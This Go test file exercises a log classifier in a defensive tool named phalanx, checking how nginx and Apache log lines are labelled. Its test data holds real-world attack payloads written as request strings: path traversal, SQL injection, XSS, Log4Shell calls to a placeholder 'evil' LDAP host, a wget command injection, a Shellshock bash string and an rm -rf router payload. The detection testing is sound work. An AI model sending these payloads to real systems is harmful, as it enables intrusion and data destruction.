package web

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/phalanx-defence/phalanx"
	"github.com/phalanx-defence/phalanx/parse/logline"
)

var testCtx = &logline.Context{Year: 2024, Loc: time.UTC}

const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"

// access builds a combined-format line from synthetic parts.
func access(ip, req string, status int, ua string) string {
	return ip + ` - - [10/Mar/2024:13:55:36 +0100] "` + req + `" ` + itoa(status) + ` 1043 "-" "` + ua + `"`
}

func TestParseKinds(t *testing.T) {
	tests := []struct {
		name string
		line string
		kind phalanx.EventKind
	}{
		// Legitimate traffic stays ordinary.
		{"browser page", access("198.51.100.7", "GET /blog/2024/hello-world HTTP/2.0", 200, chrome), phalanx.KindHTTPRequest},
		{"crawler robots", access("198.51.100.8", "GET /robots.txt HTTP/1.1", 404, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), phalanx.KindHTTPRequest},
		{"crawler sitemap", access("198.51.100.8", "GET /sitemap_index.xml HTTP/1.1", 404, "Mozilla/5.0 (compatible; bingbot/2.0)"), phalanx.KindHTTPRequest},
		{"uptime checker", access("198.51.100.9", "HEAD /health HTTP/1.1", 200, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"), phalanx.KindHTTPRequest},
		{"static asset 404", access("198.51.100.10", "GET /assets/img/Logo%20Big.PNG HTTP/1.1", 404, chrome), phalanx.KindHTTPRequest},
		{"favicon", access("198.51.100.10", "GET /favicon.ico HTTP/1.1", 404, chrome), phalanx.KindHTTPRequest},
		{"apple touch icon", access("198.51.100.10", "GET /apple-touch-icon-precomposed.png HTTP/1.1", 404, "Safari"), phalanx.KindHTTPRequest},
		{"acme", access("198.51.100.11", "GET /.well-known/acme-challenge/abc HTTP/1.1", 404, "Go-http-client/1.1"), phalanx.KindHTTPRequest},
		{"api client", access("198.51.100.12", "POST /api/v1/items?fields=a,b&sort=-created HTTP/1.1", 201, "python-requests/2.31.0"), phalanx.KindHTTPRequest},
		{"search with quote", access("198.51.100.13", "GET /search?q=o%27brien+and+sons HTTP/1.1", 200, chrome), phalanx.KindHTTPRequest},
		{"oauth redirect", access("198.51.100.14", "GET /login?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&online=1 HTTP/1.1", 302, chrome), phalanx.KindHTTPRequest},
		{"wp admin ajax", access("198.51.100.15", "POST /wp-admin/admin-ajax.php HTTP/1.1", 200, chrome), phalanx.KindHTTPRequest},
		{"server error", access("198.51.100.16", "GET /checkout HTTP/1.1", 502, chrome), phalanx.KindHTTPRequest},
		{"preconnect", `198.51.100.17 - - [10/Mar/2024:13:55:36 +0100] "-" 408 0 "-" "-"`, phalanx.KindHTTPRequest},
		{"download at depth", access("198.51.100.18", "GET /files/releases/backup.zip HTTP/1.1", 200, chrome), phalanx.KindHTTPRequest},
		{"quoted search", access("198.51.100.20", "GET /search?q=%22red+shoes%22+or+boots HTTP/1.1", 200, chrome), phalanx.KindHTTPRequest},
		{"wiki title", access("198.51.100.21", "GET /wiki/Floor_(mathematics)?version(2) HTTP/1.1", 200, chrome), phalanx.KindHTTPRequest},
		{"union in word", access("198.51.100.19", "GET /news/european-union-selection HTTP/1.1", 200, chrome), phalanx.KindHTTPRequest},

		// Probing and failures by status.
		{"not found", access("203.0.113.1", "GET /old-page HTTP/1.1", 404, chrome), phalanx.KindHTTPNotFound},
		{"method not allowed", access("203.0.113.1", "PUT /index.html HTTP/1.1", 405, "curl/8.0"), phalanx.KindHTTPNotFound},
		{"unauthorised", access("203.0.113.2", "GET /private/ HTTP/1.1", 401, chrome), phalanx.KindHTTPAuthFailed},
		{"forbidden", access("203.0.113.3", "GET /internal/report HTTP/1.1", 403, chrome), phalanx.KindHTTPDenied},
		{"too many", access("203.0.113.4", "GET /api/search HTTP/1.1", 429, "curl/8.0"), phalanx.KindHTTPRateLimited},

		// Secrets and admin files, whatever the status.
		{"dotenv", access("203.0.113.5", "GET /.env HTTP/1.1", 200, chrome), phalanx.KindHTTPSensitive},
		{"git config", access("203.0.113.5", "GET /.git/config HTTP/1.1", 403, chrome), phalanx.KindHTTPSensitive},
		{"aws", access("203.0.113.5", "GET /.aws/credentials HTTP/1.1", 404, chrome), phalanx.KindHTTPSensitive},
		{"wp-config backup", access("203.0.113.5", "GET /wp-config.php.bak HTTP/1.1", 404, chrome), phalanx.KindHTTPSensitive},
		{"wp-login", access("203.0.113.5", "POST /wp-login.php HTTP/1.1", 200, chrome), phalanx.KindHTTPSensitive},
		{"phpmyadmin", access("203.0.113.5", "GET /phpMyAdmin/index.php HTTP/1.1", 404, chrome), phalanx.KindHTTPSensitive},
		{"server-status", access("203.0.113.5", "GET /server-status HTTP/1.1", 403, chrome), phalanx.KindHTTPSensitive},
		{"sql dump", access("203.0.113.5", "GET /db/dump.sql HTTP/1.1", 404, chrome), phalanx.KindHTTPSensitive},
		{"root backup", access("203.0.113.5", "GET /backup.tar.gz HTTP/1.1", 404, chrome), phalanx.KindHTTPSensitive},
		{"encoded dotenv", access("203.0.113.5", "GET /%2Eenv HTTP/1.1", 404, chrome), phalanx.KindHTTPSensitive},

		// Payloads.
		{"traversal", access("203.0.113.6", "GET /download?file=../../../../etc/passwd HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"double encoded traversal", access("203.0.113.6", "GET /static/%252e%252e/%252e%252e/secret HTTP/1.1", 404, chrome), phalanx.KindHTTPExploit},
		{"cve-2021-41773", access("203.0.113.6", "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400, "-"), phalanx.KindHTTPExploit},
		{"cve-2021-42013", access("203.0.113.6", "POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1", 400, "-"), phalanx.KindHTTPExploit},
		{"union select plus", access("203.0.113.7", "GET /item?id=1+UNION+ALL+SELECT+1,2,3 HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"union comment", access("203.0.113.7", "GET /item?id=1/**/union/**/select/**/1 HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"or 1=1", access("203.0.113.7", "GET /login?user=admin%27%20or%201=1-- HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"sleep", access("203.0.113.7", "GET /item?id=1%20AND%20SLEEP(5) HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"xss", access("203.0.113.8", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"xss handler", access("203.0.113.8", "GET /p?x=%22%20onerror%3Dalert HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"javascript uri", access("203.0.113.8", "GET /go?to=JaVaScRiPt:alert HTTP/1.1", 302, chrome), phalanx.KindHTTPExploit},
		{"command injection", access("203.0.113.9", "GET /ping?host=1.1.1.1;wget%20http://x/y HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"phpunit", access("203.0.113.9", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, "-"), phalanx.KindHTTPExploit},
		{"boaform", access("203.0.113.9", "POST /boaform/admin/formLogin HTTP/1.1", 404, "-"), phalanx.KindHTTPExploit},
		{"hnap", access("203.0.113.9", "POST /HNAP1/ HTTP/1.1", 404, "-"), phalanx.KindHTTPExploit},
		{"gpon", access("203.0.113.9", "POST /GponForm/diag_Form?images/ HTTP/1.1", 404, "-"), phalanx.KindHTTPExploit},
		{"log4shell path", access("203.0.113.9", "GET /?x=${jndi:ldap://evil/a} HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"log4shell agent", access("203.0.113.9", "GET / HTTP/1.1", 200, "${jndi:ldap://evil/a}"), phalanx.KindHTTPExploit},
		{"shellshock agent", access("203.0.113.9", "GET /cgi-bin/status HTTP/1.1", 200, "() { :; }; /bin/bash -c id"), phalanx.KindHTTPExploit},
		{"spring4shell", access("203.0.113.9", "GET /?class.module.classLoader.URLs%5B0%5D=0 HTTP/1.1", 200, chrome), phalanx.KindHTTPExploit},
		{"actuator env", access("203.0.113.9", "GET /actuator/env HTTP/1.1", 404, chrome), phalanx.KindHTTPExploit},
		{"thinkphp", access("203.0.113.9", `GET /index.php?s=/Index/\x5Cthink\x5Capp/invokefunction&function=call_user_func_array HTTP/1.1`, 200, chrome), phalanx.KindHTTPExploit},
		{"tomcat dot-semicolon", access("203.0.113.9", "GET /mifs/.;/services/LogService HTTP/1.1", 404, chrome), phalanx.KindHTTPExploit},
		{"web shell", access("203.0.113.10", "GET /wp-content/uploads/c99.php HTTP/1.1", 404, chrome), phalanx.KindHTTPExploit},
		{"web shell suffix", access("203.0.113.10", "GET /Mini_Shell.php HTTP/1.1", 404, chrome), phalanx.KindHTTPExploit},

		// Scanners.
		{"sqlmap", access("203.0.113.11", "GET /?id=1 HTTP/1.1", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)"), phalanx.KindHTTPBadAgent},
		{"nuclei", access("203.0.113.11", "GET / HTTP/1.1", 200, "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"), phalanx.KindHTTPBadAgent},
		{"nmap", access("203.0.113.11", "GET / HTTP/1.1", 200, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), phalanx.KindHTTPBadAgent},
		{"zgrab", access("203.0.113.11", "GET / HTTP/1.1", 200, "Mozilla/5.0 zgrab/0.x"), phalanx.KindHTTPBadAgent},

		// Proxies and protocol garbage.
		{"connect", access("203.0.113.12", "CONNECT mail.example.net:25 HTTP/1.1", 400, "-"), phalanx.KindHTTPOpenProxy},
		{"absolute uri", access("203.0.113.12", "GET http://check.example.org/proxy.php HTTP/1.1", 200, "-"), phalanx.KindHTTPOpenProxy},
		{"tls on plain port", access("203.0.113.13", `\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03`, 400, "-"), phalanx.KindHTTPMalformed},
		{"bare word", access("203.0.113.13", "Hello", 400, "-"), phalanx.KindHTTPMalformed},
		{"empty 400", `203.0.113.13 - - [10/Mar/2024:13:55:36 +0100] "-" 400 0 "-" "-"`, phalanx.KindHTTPMalformed},
		{"rtsp", access("203.0.113.13", "OPTIONS rtsp://192.0.2.1:554 RTSP/1.0", 400, "-"), phalanx.KindHTTPMalformed},
		{"uri too long", access("203.0.113.13", "GET /"+strings.Repeat("A", 100)+" HTTP/1.1", 414, "-"), phalanx.KindHTTPMalformed},

		// Error logs.
		{"nginx auth", `2024/03/10 13:55:36 [error] 812#812: *41 user "admin" was not found in "/etc/nginx/.htpasswd", client: 203.0.113.20, server: example.org, request: "GET /admin HTTP/1.1", host: "example.org"`, phalanx.KindHTTPAuthFailed},
		{"nginx password", `2024/03/10 13:55:36 [error] 812#812: *41 user "admin": password mismatch, client: 203.0.113.20, server: example.org, request: "GET /admin HTTP/1.1", host: "example.org"`, phalanx.KindHTTPAuthFailed},
		{"nginx limit_req", `2024/03/10 13:55:36 [error] 812#812: *41 limiting requests, excess: 10.500 by zone "one", client: 203.0.113.21, server: example.org, request: "GET / HTTP/1.1", host: "example.org"`, phalanx.KindHTTPRateLimited},
		{"nginx limit_conn", `2024/03/10 13:55:36 [error] 812#812: *41 limiting connections by zone "addr", client: 203.0.113.21, server: example.org, request: "GET / HTTP/1.1", host: "example.org"`, phalanx.KindHTTPRateLimited},
		{"nginx ordinary 404", `2024/03/10 13:55:36 [error] 812#812: *41 open() "/srv/www/news/x.html" failed (2: No such file or directory), client: 203.0.113.22, server: example.org, request: "GET /news/x.html HTTP/1.1", host: "example.org"`, phalanx.KindInfo},
		{"nginx forbidden", `2024/03/10 13:55:36 [error] 812#812: *41 access forbidden by rule, client: 203.0.113.22, server: example.org, request: "GET /private HTTP/1.1", host: "example.org"`, phalanx.KindHTTPDenied},
		{"nginx upstream", `2024/03/10 13:55:36 [error] 812#812: *41 connect() failed (111: Connection refused) while connecting to upstream, client: 203.0.113.22, server: example.org, request: "GET / HTTP/1.1", upstream: "http://127.0.0.1:3000/", host: "example.org"`, phalanx.KindInfo},
		{"apache denied", `[Sun Mar 10 13:55:36.123456 2024] [authz_core:error] [pid 1234:tid 5678] [client 203.0.113.23:50123] AH01630: client denied by server configuration: /srv/www/private`, phalanx.KindHTTPDenied},
		{"apache user", `[Sun Mar 10 13:55:36.123456 2024] [auth_basic:error] [pid 1234:tid 5678] [client 203.0.113.23:50123] AH01618: user bob not found: /admin`, phalanx.KindHTTPAuthFailed},
		{"apache mismatch", `[Sun Mar 10 13:55:36 2024] [error] [client 203.0.113.23] user bob: authentication failure for "/admin": Password Mismatch`, phalanx.KindHTTPAuthFailed},
		{"apache notice", `[Sun Mar 10 13:55:36.123456 2024] [mpm_event:notice] [pid 1:tid 2] AH00489: Apache/2.4.58 configured -- resuming normal operations`, phalanx.KindInfo},
		{"modsecurity", `[Sun Mar 10 13:55:36.1 2024] [security2:error] [pid 1] [client 203.0.113.27:1] ModSecurity: Access denied with code 403 (phase 2). [id "942100"] [uri "/x"]`, phalanx.KindHTTPDenied},
		{"apache overflow", `[Sun Mar 10 13:55:36 2024] [error] [client 203.0.113.24] request failed: URI too long (longer than 8190)`, phalanx.KindHTTPMalformed},
		{"syslog wrapped access", "Mar 10 13:55:36 web1 nginx: " + access("203.0.113.25", "GET /.env HTTP/1.1", 404, chrome), phalanx.KindHTTPSensitive},
		{"journal wrapped error", `web1 nginx[812]: 2024/03/10 13:55:36 [error] 812#812: *41 limiting requests, excess: 1.0 by zone "one", client: 203.0.113.26, server: s, request: "GET / HTTP/1.1", host: "h"`, phalanx.KindHTTPRateLimited},
	}
	p := New(phalanx.ServiceNginx, testCtx)
	for _, tt := range tests {
		var ev phalanx.Event
		if !p.Parse(tt.line, &ev) {
			t.Errorf("%s: not parsed: %s", tt.name, tt.line)
			continue
		}
		if ev.Kind != tt.kind {
			t.Errorf("%s: kind %s, want %s (method %q path %q)", tt.name, ev.Kind, tt.kind, ev.Method, ev.Path)
		}
		if !ev.Source.IsValid() && tt.kind != phalanx.KindInfo {
			t.Errorf("%s: no source", tt.name)
		}
	}
}

func TestParseFields(t *testing.T) {
	tests := []struct {
		line    string
		svc     phalanx.Service
		src     string
		method  string
		path    string
		status  int
		ua      string
		user    string
		time    string
		service phalanx.Service
	}{
		{
			line: `192.0.2.1 - alice [10/Mar/2024:13:55:36 +0100] "GET /a?b=c HTTP/1.1" 200 5 "https://ref/" "UA \"quoted\" x"`,
			svc:  phalanx.ServiceNginx, src: "192.0.2.1", method: "GET", path: "/a?b=c", status: 200,
			ua: `UA \"quoted\" x`, user: "alice", time: "2024-03-10T12:55:36Z", service: phalanx.ServiceNginx,
		},
		{
			line: `www.example.org:443 2001:db8::5 - - [10/Mar/2024:13:55:36 +0000] "POST /login HTTP/2.0" 302 0 "-" "curl/8.0"`,
			svc:  phalanx.ServiceApache, src: "2001:db8::5", method: "POST", path: "/login", status: 302,
			ua: "curl/8.0", time: "2024-03-10T13:55:36Z", service: phalanx.ServiceApache,
		},
		{
			line: `192.0.2.2 - - [10/Mar/2024:13:55:36 +0000] "GET /x HTTP/1.0" 404 12`,
			svc:  phalanx.ServiceHTTP, src: "192.0.2.2", method: "GET", path: "/x", status: 404,
			time: "2024-03-10T13:55:36Z", service: phalanx.ServiceHTTP,
		},
		{
			line: `::ffff:192.0.2.3 - - [10/Mar/2024:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "-" "-"`,
			svc:  phalanx.ServiceHTTP, src: "192.0.2.3", method: "GET", path: "/", status: 200,
			time: "2024-03-10T13:55:36Z", service: phalanx.ServiceHTTP,
		},
		{
			line: `2024/03/10 13:55:36 [error] 1#1: *2 user "mallory": password mismatch, client: 198.51.100.4, server: s, request: "GET /adm HTTP/1.1", host: "h"`,
			svc:  phalanx.ServiceHTTP, src: "198.51.100.4", method: "GET", path: "/adm",
			user: "mallory", time: "2024-03-10T13:55:36Z", service: phalanx.ServiceNginx,
		},
		{
			// A user name carrying a fake client: the real one is nginx's.
			line: `2024/03/10 13:55:36 [error] 1#1: *2 user "x": password mismatch, client: 127.0.0.1, server: s, request: "GET / HTTP/1.1", host: "h"": was not found in "/etc/htpasswd", client: 198.51.100.5, server: , request: "GET / HTTP/1.1", host: "h"`,
			svc:  phalanx.ServiceHTTP, src: "198.51.100.5", method: "GET", path: "/",
			user: `x": password mismatch, client: 127.0.0.1, server: s, request: "GET / HTTP/1.1", host: "h"`,
			time: "2024-03-10T13:55:36Z", service: phalanx.ServiceNginx,
		},
		{
			line: `[Sun Mar 10 13:55:36.5 2024] [authz_owner:error] [pid 3] [client [2001:db8::9]:4431] AH01637: Authorization of user carol to access /x failed, reason: owner`,
			svc:  phalanx.ServiceHTTP, src: "2001:db8::9", path: "/x", user: "carol",
			time: "2024-03-10T13:55:36.5Z", service: phalanx.ServiceApache,
		},
		{
			line: "Mar 10 13:55:36 web1 apache2[9]: [authz_core:error] [pid 9] [client 192.0.2.9:1] AH01630: client denied by server configuration: /srv",
			svc:  phalanx.ServiceHTTP, src: "192.0.2.9", path: "/srv", time: "2024-03-10T13:55:36Z", service: phalanx.ServiceApache,
		},
	}
	for _, tt := range tests {
		p := New(tt.svc, testCtx)
		var ev phalanx.Event
		if !p.Parse(tt.line, &ev) {
			t.Errorf("not parsed: %s", tt.line)
			continue
		}
		want := phalanx.Event{Source: netip.MustParseAddr(tt.src), Service: tt.service, Method: tt.method,
			Path: tt.path, Status: tt.status, UserAgent: tt.ua, User: tt.user, Kind: ev.Kind, Time: ev.Time}
		if ev != want {
			t.Errorf("%s\n got %+v\nwant %+v", tt.line, ev, want)
		}
		if got := ev.Time.UTC().Format(time.RFC3339Nano); got != tt.time {
			t.Errorf("%s: time %s, want %s", tt.line, got, tt.time)
		}
	}
}

func TestParseRejects(t *testing.T) {
	p := New(phalanx.ServiceHTTP, testCtx)
	for _, line := range []string{
		"",
		"hello world",
		"Mar 10 13:55:36 web1 sshd[1]: Failed password for root from 192.0.2.1 port 22 ssh2",
		`192.0.2.1 - - [not a time] "GET / HTTP/1.1" 200 1`,
		`192.0.2.1 - - [10/Mar/2024:13:55:36 +0000] "GET / HTTP/1.1" abc 1`,
		`[Sun Mar 10 13:55:36 2024] [nonsense] [client 192.0.2.1] x`,
		`notanip - - [10/Mar/2024:13:55:36 +0000] "GET / HTTP/1.1" 200 1`,
	} {
		var ev phalanx.Event
		if p.Parse(line, &ev) {
			t.Errorf("parsed %q as %+v", line, ev)
		}
	}
}

// TestClassifyDirect exercises Classify on events that did not come from
// this parser, as custom rules fill them.
func TestClassifyDirect(t *testing.T) {
	tests := []struct {
		ev   phalanx.Event
		kind phalanx.EventKind
	}{
		{phalanx.Event{Method: "GET", Path: "/", Status: 200}, phalanx.KindHTTPRequest},
		{phalanx.Event{Method: "get", Path: "/.git/HEAD", Status: 0}, phalanx.KindHTTPSensitive},
		{phalanx.Event{Method: "GET", Path: "/" + strings.Repeat("a/", 400) + "..%2f..%2fetc/passwd", Status: 404}, phalanx.KindHTTPExploit},
		{phalanx.Event{Method: "GET", Path: "/x", Status: 200, UserAgent: "Mozilla/5.0 (Nikto/2.5.0)"}, phalanx.KindHTTPBadAgent},
		{phalanx.Event{Method: "GET", Path: "/x", Status: 200, UserAgent: "Mozilla/5.0 Nikon camera"}, phalanx.KindHTTPRequest},
		{phalanx.Event{Method: "G E T", Path: "/x"}, phalanx.KindHTTPMalformed},
	}
	for _, tt := range tests {
		ev := tt.ev
		Classify(&ev)
		if ev.Kind != tt.kind {
			t.Errorf("Classify(%+v) = %s, want %s", tt.ev, ev.Kind, tt.kind)
		}
	}
}

// TestAgentCache checks that the per-parser verdict cache gives the same
// answer as the uncached scan, line after line.
func TestAgentCache(t *testing.T) {
	p := New(phalanx.ServiceNginx, testCtx)
	agents := []string{chrome, "sqlmap/1.7", "curl/8.0", "Mozilla/5.00 (Nikto/2.1.5)", chrome, "sqlmap/1.7", ""}
	for round := 0; round < 3; round++ {
		for _, ua := range agents {
			var ev phalanx.Event
			if !p.Parse(access("192.0.2.1", "GET / HTTP/1.1", 200, ua), &ev) {
				t.Fatalf("not parsed")
			}
			want := phalanx.KindHTTPRequest
			if badAgent(ua) {
				want = phalanx.KindHTTPBadAgent
			}
			if ev.Kind != want {
				t.Errorf("round %d %q: %s, want %s", round, ua, ev.Kind, want)
			}
		}
	}
}

// Payloads seen in the wild that the classifier must call exploits on
// first sight, and look-alikes from legitimate users that it must not.
func TestClassifyMorePayloads(t *testing.T) {
	for path, want := range map[string]phalanx.EventKind{
		"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/": phalanx.KindHTTPExploit,
		"/mgmt/tm/util/bash": phalanx.KindHTTPExploit,
		"/autodiscover/autodiscover.json?@x.com/owa/?&Email=autodiscover/autodiscover.json%3F@x.com": phalanx.KindHTTPExploit,
		"/xmlrpc.php":                   phalanx.KindHTTPSensitive,
		"/wp-includes/wlwmanifest.xml":  phalanx.KindHTTPSensitive,
		"/search?q=rm+-rf+is+a+command": phalanx.KindHTTPNotFound,
		"/util/bash-tips.html":          phalanx.KindHTTPNotFound,
		"/blog/chmod+x-explained":       phalanx.KindHTTPNotFound,
	} {
		ev := phalanx.Event{Method: "GET", Path: path, Status: 404, UserAgent: "Mozilla/5.0"}
		Classify(&ev)
		if ev.Kind != want {
			t.Errorf("Classify(%q) = %s, want %s", path, ev.Kind, want)
		}
	}
}
